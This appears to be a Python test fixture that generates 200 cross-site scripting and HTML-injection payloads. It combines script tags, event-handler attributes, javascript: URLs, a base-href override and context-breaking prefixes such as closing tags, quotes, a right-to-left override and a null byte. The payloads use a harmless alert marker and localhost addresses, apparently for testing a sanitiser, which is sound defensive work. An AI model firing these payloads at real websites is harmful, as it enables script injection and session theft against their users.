"""Two hundred ways in which words try to become a program, or to look like what they are not."""

from __future__ import annotations

from itertools import product

_CALL = "window.hacked=1;alert(1)"
_TAGS = (
    "<script>{c}</script>",
    "<img src=x onerror={c}>",
    "<svg onload={c}>",
    "<svg><script>{c}</script></svg>",
    "<iframe srcdoc='<script>parent.{c}</script>'></iframe>",
    "<body onload={c}>",
    "<input autofocus onfocus={c}>",
    "<details open ontoggle={c}>",
    "<video><source onerror={c}></video>",
    "<a href='javascript:{c}'>x</a>",
    "<math><mtext></mtext><script>{c}</script></math>",
    "<style>@import 'http://127.0.0.1:9/x';</style>",
    "<link rel=stylesheet href=http://127.0.0.1:9/x>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<object data='javascript:{c}'></object>",
    "<form action='javascript:{c}'><button>x</button></form>",
    "<base href=http://127.0.0.1:9/>",
    "<marquee onstart={c}>x</marquee>",
    "<template><script>{c}</script></template>",
    "<img src=http://127.0.0.1:9/pixel>",
)
_BEFORE = (
    "",
    "</title>",
    "</style>",
    "</textarea></pre>",
    '">',
    "'>",
    "-->",
    "]]>",
    "\u202e",
    "\x00",
)

PAYLOADS: tuple[str, ...] = tuple(before + tag.format(c=_CALL) for before, tag in product(_BEFORE, _TAGS))
